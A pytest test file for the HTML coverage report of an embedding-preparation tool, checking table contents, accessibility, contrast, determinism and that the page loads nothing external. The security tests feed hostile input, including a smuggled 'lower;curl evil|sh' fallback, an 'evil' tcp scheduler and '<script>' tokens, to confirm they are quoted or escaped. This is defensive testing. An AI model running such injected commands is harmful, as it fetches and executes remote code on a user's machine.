"""The HTML report as text: it says what the record says, and nothing in it is more than text."""

from __future__ import annotations

import re
import sys
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import numpy as np
import pytest

import embedprep
from embedprep.coverage.record import Kind
from embedprep.errors import UsageError
from embedprep.options import Options
from embedprep.provenance import Provenance
from embedprep.report.columns import LONGEST, shortened
from embedprep.report.html import render
from embedprep.report.html.command import build_command, fallback_option, inspect_command
from embedprep.report.html.pictures import nearest
from embedprep.report.html.sample import NORMS, found, norms
from embedprep.report.wording import percent, rows_shown
from tests.report.samples import HOSTILE, report, rows

_VOID = {"meta", "link", "input", "br", "img", "wbr"}


class Document(HTMLParser):
    """The cells of every table, the attributes of every element, and what was left open."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.tables: dict[str, list[list[str]]] = {}
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self._open: list[str] = []
        self._rows: list[list[str]] = []
        self._caption = ""
        self.feed(page)
        self.close()
        assert self._open == []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))
        if tag not in _VOID:
            self._open.append(tag)
        if tag == "table":
            self._rows, self._caption = [], ""
        elif tag == "tr":
            self._rows.append([])
        elif tag in ("th", "td"):
            self._rows[-1].append("")

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))

    def handle_endtag(self, tag: str) -> None:
        assert self._open.pop() == tag
        if tag == "table":
            self.tables[self._caption] = self._rows

    def handle_data(self, data: str) -> None:
        if self._open and self._open[-1] in ("script", "style"):
            return
        self.text += data
        if "caption" in self._open:
            self._caption += data
        elif "td" in self._open or ("th" in self._open and "tr" in self._open):
            self._rows[-1][-1] += data


def squeezed(text: str) -> str:
    return " ".join(text.split())


def test_every_number_is_that_of_the_record() -> None:
    coverage = report()
    counts = coverage.counts
    document = Document(render(coverage))
    text = squeezed(document.text).replace("\u2011", "-")
    assert counts.text
    for part in (
        "94.0 % → 96.0 % 18,800 of 20,000 tokens found, 120 made of n-grams or pieces",
        "90.0 % → 94.8 % 1,110,967 of 1,234,567 occurrences found, 654 made of n-grams or pieces",
        "1,200 → 800 tokens without a vector, 123,600 × in your text",
        "20,002 × 300 float32",
        "text 90.0 % → 94.8 %, vocabulary 94.0 % → 96.0 % with this command",
        "13 records of a wanted key that came before",
        "2 records with nan or infinite values left out",
    ):
        assert part in text
    assert [row[1:3] for row in document.tables["Rows by provenance"][1:-1]] == [
        [f"{number:,}", percent(number / coverage.matrix.rows)]
        for _, number, _ in rows_shown(coverage)
    ]
    missing = document.tables["The 1,000 most frequent of 1,200"]
    assert missing[0] == ["Token", "Row", "Count", "Kind"]
    assert [[cell.strip() for cell in row] for row in missing[1:]] == [
        [entry.token, f"{entry.row:,}", f"{entry.count:,}", entry.kind] for entry in counts.missing
    ]
    for kind, row in zip(
        counts.kinds, document.tables["By kind: shares of the missing text"][1:], strict=True
    ):
        assert row[0].startswith(kind.kind)
        assert row[1:4] == [
            f"{kind.tokens:,}",
            f"{kind.occurrences:,}",
            percent((kind.occurrences or 0) / 123_600),
        ]
    for advice, row in zip(
        coverage.advice, document.tables["What each rule would find"][1:], strict=True
    ):
        assert row[0].startswith(advice.rule)
        assert row[1:3] == [f"{advice.tokens:,}", f"{advice.occurrences:,}"]
        assert squeezed(row[0]).endswith(" ".join(f"{a} → {b}" for a, b in advice.examples))
    assert ["bytes", "1,037,962,819"] in document.tables["Vectors 1"]
    assert ["format", "gzip of text"] in document.tables["Vectors 2"]
    changed = document.tables["Options that differ from their defaults"]
    assert changed == [["--oov", "normal"], ["--subwords", "no"]]
    assert ["seconds", "3.45"] in document.tables["Run"]


def test_without_counts_nothing_is_said_of_the_text() -> None:
    document = Document(render(report(["a", "b"], counted=False)))
    assert "unknown" in document.text
    assert "missing text" not in document.text
    assert document.tables["All 2, in order of their ids"] == [
        ["Token", "Row", "Kind"], ["a", "7,000", "other"], ["b", "7,001", "likely misspelling"],
    ]  # fmt: skip


BY_RANK = "By rank, the most frequent tokens of your text first: shares of the missing text"


def test_what_is_missing_by_band_of_rank() -> None:
    page = render(report())
    assert Document(page).tables[BY_RANK] == [
        ["Tokens", "Missing", "In your text", "Share", ""],
        ["1 to 100", "6", "100", "0.1 %", ""],
        ["101 to 1,000", "54", "900", "0.7 %", ""],
        ["1,001 to 10,000", "540", "9,000", "7.3 %", ""],
        ["10,001 to 20,000", "600", "10,000", "8.1 %", ""],
    ]
    assert "rank" not in sections(render(report([])))


def test_without_counts_bands_are_of_ids_and_of_words_only() -> None:
    coverage = report(counted=False)
    assert "By id: many tokenizers give" in Document(render(coverage)).text
    pieces = coverage._replace(vocabulary=coverage.vocabulary._replace(surface="byte-level"))
    assert "rank" not in sections(render(pieces))
    assert "frequent" not in Document(render(pieces)).text


def test_a_text_that_misses_only_what_it_does_not_have() -> None:
    coverage = report(["a", "b"])
    counts = coverage.counts
    assert counts.text
    whole = counts.text._replace(found=counts.text.total)
    kinds = tuple(kind._replace(occurrences=0) for kind in counts.kinds)
    page = render(coverage._replace(counts=counts._replace(text=whole, kinds=kinds)))
    assert [
        row[3] for row in Document(page).tables["By kind: shares of the missing tokens"][1:]
    ] == [
        "50.0 %",
        "50.0 %",
    ]


def test_where_there_is_no_word_nothing_is_said_of_ranks(workdir: Path) -> None:
    """A vocabulary of special tokens alone, from a tokenizer that was never fitted."""
    Path("v.txt").write_text("the 1 2\n")
    _, coverage = embedprep.build("v.txt", ["", "[UNK]"])
    assert coverage.counts.vocabulary.total == 0
    page = render(coverage)
    assert "rank" not in sections(page)
    text = squeezed(Document(page).text)
    assert "Vocabulary no tokens except special ones" in text
    assert "100.0 %" not in text


def test_counts_of_zero_are_told_apart_from_none(workdir: Path) -> None:
    Path("v.txt").write_text("the 1 2\n")
    Path("zero.json").write_text('{"the": 0}')
    _, coverage = embedprep.build("v.txt", ["the"], counts="zero.json")
    assert "unknown all counts are 0" in squeezed(Document(render(coverage)).text)


def sections(page: str) -> list[str | None]:
    return [
        attrs.get("aria-labelledby") for name, attrs in Document(page).elements if name == "section"
    ]


def test_where_nothing_is_missing_there_is_nothing_to_improve() -> None:
    document = Document(render(report([])))
    assert "every token has a vector" in document.text
    assert "missing-table" not in [attrs.get("id") for _, attrs in document.elements]
    assert "What would help" not in document.text


def test_almost_nothing_found_is_said_first() -> None:
    page = Document(render(report(["a"]))).text
    assert "has a vector." not in page
    for found_now, said in ((0, "None of the tokens"), (1999, "Almost none of the tokens")):
        coverage = report()
        counts = coverage.counts
        share = counts.vocabulary._replace(found=found_now)
        text = Document(render(coverage._replace(counts=counts._replace(vocabulary=share)))).text
        assert f"{said} has a vector." in text
        assert "Is tokenizer.json, read as keras-tokenizer, the vocabulary" in squeezed(text)


def test_kinds_name_the_rules_that_are_made_for_them_and_find_something() -> None:
    coverage = report(
        advice=[{"rule": "possessive", "tokens": 1, "occurrences": 1, "examples": []}]
    )
    kinds = (Kind("possessive", 400, 1), Kind("compound", 400, 1))
    counts = coverage.counts._replace(kinds=kinds)
    tables = Document(render(coverage._replace(counts=counts))).tables
    rows_of_kinds = tables["By kind: shares of the missing text"][1:]
    assert [row[0].partition("rule")[2].strip() for row in rows_of_kinds] == ["possessive", ""]


def test_the_note_on_pickles_is_for_files_of_gensim() -> None:
    coverage = report()
    assert "--trust-pickle" not in render(coverage)
    vectors = (coverage.vectors[0]._replace(format="gensim"),)
    assert "--trust-pickle" in render(coverage._replace(vectors=vectors))


def test_where_no_rule_was_used_the_command_has_auto() -> None:
    text = squeezed(Document(render(report(fallback=[]))).text)
    assert "--no-subwords --fallback auto Copy auto chooses lower, digits-hash, possessive" in text
    piped = report(fallback=[])
    vectors = (piped.vectors[0]._replace(path="-"),)
    assert "auto" not in Document(render(piped._replace(vectors=vectors))).text


def test_pieces_have_their_option() -> None:
    coverage = report()
    kinds = (Kind("piece", 600, 1),)
    page = Document(render(coverage._replace(counts=coverage.counts._replace(kinds=kinds))))
    assert "50.0 % of the missing tokens are pieces of words" in page.text
    assert "--pieces mean --words FILE" in page.text


def test_without_the_matrix_the_page_says_how_to_get_the_rest() -> None:
    assert "<code>embedprep inspect wiki.npy --html FILE</code>" in render(report())
    page = render(report(), rows([f"w{i}" for i in range(50)]))
    assert "--html FILE" not in page
    assert 'class="norms"' in page
    assert "of all 50 rows found" in page


@pytest.fixture(scope="module")
def hostile() -> str:
    advice = [
        {"rule": text, "tokens": 1, "occurrences": 1, "examples": [[text, text]]}
        for text in HOSTILE
    ]
    changes: dict[str, Any] = {
        "advice": advice,
        "options": {text: text for text in HOSTILE},
        "versions": {text: text for text in HOSTILE},
        "fallback": HOSTILE,
    }
    coverage = report(HOSTILE, **changes)
    text = "".join(HOSTILE[:-1])
    file, *others = coverage.vectors
    vectors = (file._replace(path=text, format=text, separator=text), *others)
    return render(coverage._replace(vectors=vectors), rows(HOSTILE * 3))


def test_hostile_text_adds_no_element_and_no_attribute(hostile: str) -> None:
    document = Document(hostile)
    assert [tag for tag, _ in document.elements].count("script") == 1
    assert {tag for tag, _ in document.elements}.isdisjoint(
        {"img", "iframe", "object", "base", "b"}
    )
    assert not any(name.startswith("on") for _, attrs in document.elements for name in attrs)
    assert len(hostile) < 200_000, "a token of a million characters was not cut"


def test_hostile_text_is_all_visible(hostile: str) -> None:
    document = Document(hostile)
    listed = [
        squeezed(row[0]) for row in document.tables[f"All {len(HOSTILE)}, most frequent first"][1:]
    ]
    expected = [squeezed(shortened(token, LONGEST)) or "(empty)" for token in HOSTILE[:-1]]
    assert listed == [*expected, f"{'long' * 23}lon… 1,000,000 characters"]
    assert r"\u202egnirts" in listed
    assert all(c.isprintable() or c == "\n" for c in hostile)
    hostile.encode("utf-8")


def test_every_token_stands_in_isolation(hostile: str) -> None:
    listed = hostile.partition('id="missing-table"')[2].partition("</table>")[0]
    rows_of_tokens = re.findall(r'<th scope="row"><bdi class="token">', listed)
    assert len(rows_of_tokens) == len(HOSTILE)


def test_the_same_report_and_matrix_give_the_same_bytes() -> None:
    tokens = [f"w{i}" for i in range(300)]
    page = render(report(), rows(tokens))
    assert render(report(), rows(tokens)) == page
    other_run = {"id": "ffff", "seconds": 99.5, "threads": 1, "implementation": "reference"}
    other = render(report(run=other_run), rows(tokens))
    assert other != page
    table_of_run = re.compile(r"<caption>Run</caption>.*?</table>", re.DOTALL)
    assert table_of_run.sub("", other) == table_of_run.sub("", page)


def test_the_page_loads_nothing() -> None:
    page = render(report(), rows([f"w{i}" for i in range(300)]))
    assert not re.search(r"https?:|//[a-z]|@import|url\((?!#)", re.sub(r" // .*", "", page))
    for tag, attrs in Document(page).elements:
        for name in ("src", "href", "xlink:href", "action", "srcset"):
            value = attrs.get(name) or "#"
            assert value.startswith("#") or (tag, value) == ("link", "data:,")
    policy = re.search(r'Content-Security-Policy" content="([^"]*)"', page)
    assert policy
    assert policy[1].startswith("default-src 'none';")
    assert "script-src 'sha256-" in policy[1]


def test_what_a_screen_reader_needs() -> None:
    page = render(report(), rows([f"w{i}" for i in range(300)]))
    document = Document(page)
    ids = [attrs["id"] for _, attrs in document.elements if "id" in attrs]
    assert len(ids) == len(set(ids))
    for tag, attrs in document.elements:
        if tag == "th" and attrs.get("aria-hidden") != "true":
            assert attrs["scope"] in ("col", "row")
        if tag == "svg":
            assert attrs.get("aria-hidden") == "true" or attrs.get("aria-label") or "meter" in page
        for name in ("aria-labelledby", "aria-controls", "for"):
            assert set(str(attrs.get(name) or ids[0]).split()) <= set(ids)
        if (attrs.get("href") or "").startswith("#"):
            assert (attrs["href"] or "")[1:] in ids
    tags = [tag for tag, _ in document.elements]
    assert all(tags.count(tag) == 1 for tag in ("main", "h1", "nav", "header", "footer"))
    assert sum(attrs.get("role") == "img" for _, attrs in document.elements) == 2


@pytest.mark.parametrize(
    ("name", "scheme"),
    [(name, scheme) for name in ("ink", "muted", "accent", "gain") for scheme in (0, 1)],
)
def test_text_stands_out_from_the_background(name: str, scheme: int) -> None:
    """WCAG 2, 1.4.3: a contrast of 4.5."""
    style = (
        Path(str(sys.modules["embedprep.report.html"].__file__)).with_name("page.css").read_text()
    )

    def luminance(variable: str) -> float:
        colour = re.findall(rf"--{variable}: #([0-9a-f]{{6}});", style)[scheme]
        parts = [int(colour[i : i + 2], 16) / 255 for i in (0, 2, 4)]
        linear = [p / 12.92 if p <= 0.04045 else ((p + 0.055) / 1.055) ** 2.4 for p in parts]
        return 0.2126 * linear[0] + 0.7152 * linear[1] + 0.0722 * linear[2]

    for background in ("page", "surface"):
        low, high = sorted((luminance(name), luminance(background)))
        assert (high + 0.05) / (low + 0.05) >= 4.5


def test_the_command_is_the_build_with_its_options() -> None:
    coverage = report()
    assert build_command(coverage, "lower,accents") == (
        "embedprep build --vectors glove.6B.300d.txt --vectors 'domain vectors.vec' "
        "--vocab tokenizer.json -o wiki.npy --oov normal --no-subwords --fallback lower,accents"
    )
    words = Document(render(coverage)).text
    assert "--no-subwords --fallback lower,digits-hash,possessive,accents" in words
    gain = report(options={"min_gain": 0.5})
    assert (build_command(gain, "auto") or "").endswith(" --min-gain 0.5 --fallback auto")
    assert (build_command(gain, "lower") or "").endswith("wiki.npy --fallback lower")
    negative = report(options={"seed": -1, "dim": 50})
    assert " --seed=-1 --dim 50 " in (build_command(negative, "") or "")


def test_a_report_of_a_stranger_makes_no_command_that_trusts_or_runs_anything() -> None:
    told = {"trust_pickle": True, "scheduler": "tcp://evil:1", "engine": "dask", "dim": 3}
    said = build_command(report(options=told), "lower;curl evil|sh") or ""
    assert said.endswith("-o wiki.npy --dim 3 --fallback 'lower;curl evil|sh'")
    assert fallback_option("lower;curl evil|sh") == "--fallback 'lower;curl evil|sh'"


@pytest.mark.parametrize("path", [None, "bad\x1bname.npy"])
def test_no_command_for_what_has_no_name_that_can_be_typed(path: str | None) -> None:
    coverage = report(
        matrix={"path": path, "rows": 2, "dim": 3, "dtype": "float32", "sha256_of_pieces": ""}
    )
    assert build_command(coverage, "lower") is None
    assert inspect_command(coverage) is None
    page = render(coverage)
    assert "Add it to the <code>embedprep build</code>" in page
    assert (
        "--fallback</span> <span>lower,<wbr>digits-hash,<wbr>possessive,<wbr>accents</span>" in page
    )


def test_the_command_leaves_out_what_build_does_by_default() -> None:
    said = build_command(report(options=Options().as_told()), "lower") or ""
    assert said.endswith("-o wiki.npy --fallback lower")


@pytest.mark.parametrize(("tokens", "words"), [([], 0), (["a"], 0), (["a", "b"], 2), ([""], 0)])
def test_too_little_for_neighbours(tokens: list[str], words: int) -> None:
    matrix = rows(tokens)
    assert len(nearest(matrix).words) == words
    page = render(report(), matrix)
    assert ("Norms from" in page) == ("The vectors found" in page) == (len(tokens) > 0)


@pytest.mark.parametrize("value", [0.0, 1.0, 3e38, np.inf, np.nan])
def test_strange_values(value: float) -> None:
    matrix = rows([f"word{i}" for i in range(9)])
    matrix.array[1:5] = value
    assert "Histogram" in render(report(), matrix)
    matrix.array[:] = value
    page = render(report(), matrix)
    assert ("Some words and their neighbours" in page) == (value in (1.0, 3e38))


def test_the_neighbours_are_those_of_all_cosines() -> None:
    names = ["the", "Ġof", *(f"word{i}x" for i in range(400)), "the"]
    matrix = rows(names, dim=20)
    matrix.array[-1] = matrix.array[1]
    found_words = nearest(matrix)
    assert (found_words.compared, found_words.found) == (403, 403)
    assert [word.token for word in found_words.words] == [
        f"word{i}x" for i in (0, 1, 3, 6, 13, 27, 53, 105, 205, 399)
    ]
    units = matrix.array[1:] / np.linalg.norm(matrix.array[1:], axis=1, keepdims=True)
    for word in found_words.words:
        place = names.index(word.token)
        cosines = units @ units[place]
        best = [i for i in np.argsort(-cosines, kind="stable").tolist() if i != place]
        expected = list(dict.fromkeys(names[i] for i in best))[:6]
        assert [token for token, _ in word.nearest] == expected
        np.testing.assert_allclose(
            [cosine for _, cosine in word.nearest],
            [cosines[names.index(token)] for token in expected],
            rtol=1e-5,
        )


def test_short_words_are_taken_where_there_are_no_others() -> None:
    assert [word.token for word in nearest(rows(["a", "", "我", "b"])).words] == ["a", "我", "b"]


def test_the_norms_of_rows_without_a_vector_stand_beside_the_others() -> None:
    matrix = rows([f"word{i}" for i in range(90)])
    assert "Rows filled by --oov" not in render(report(), matrix)
    matrix.provenance[60:] = Provenance.OOV
    matrix.array[60:] = 0.5
    page = render(report(), matrix)
    assert "of all 59 rows found. Rows filled by --oov: median 1.414." in page
    assert 'class="row-oov" x="' in page.partition('class="norms"')[2]


def test_a_few_giants_do_not_flatten_the_histogram() -> None:
    matrix = rows([f"w{i}" for i in range(5000)])
    matrix.array[7] *= 1000
    assert "are not drawn" in render(report(), matrix)


def test_norms_of_a_large_matrix_are_sampled_evenly() -> None:
    matrix = rows([f"w{i}" for i in range(2 * NORMS)], dim=1)
    matrix.array[:, 0] = np.arange(len(matrix.array))
    sampled = norms(matrix, found(matrix))
    assert (sampled.read, sampled.rows) == (NORMS, 2 * NORMS)
    np.testing.assert_array_equal(sampled.values, np.arange(1, 2 * NORMS, 2))
    assert f"{NORMS:,} rows, evenly spread over the {2 * NORMS:,} found" in render(report(), matrix)


def test_it_says_among_how_many_rows_neighbours_were_looked_for() -> None:
    few, many = rows([f"word{i}" for i in range(30)]), rows([f"word{i}" for i in range(21_000)])
    assert "with the cosine, among all 30 rows found" in Document(render(report(), few)).text
    assert "among the first 20,000 rows found" in Document(render(report(), many)).text


def test_without_the_library(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(sys.modules, "jinja2", None)
    with pytest.raises(UsageError, match="the HTML report needs jinja2") as raised:
        render(report())
    assert "pip install 'embedprep[html]'" in raised.value.remedy
    table = report(["<script>"])._repr_html_()
    assert table.startswith("<pre>")
    assert "&lt;script&gt;" in table


def test_a_notebook_gets_the_page_in_a_frame() -> None:
    coverage = report(HOSTILE)
    ((tag, attrs),) = Document(coverage._repr_html_()).elements
    assert tag == "iframe"
    assert attrs["sandbox"] == "allow-scripts allow-downloads"
    assert attrs["srcdoc"] == render(coverage)
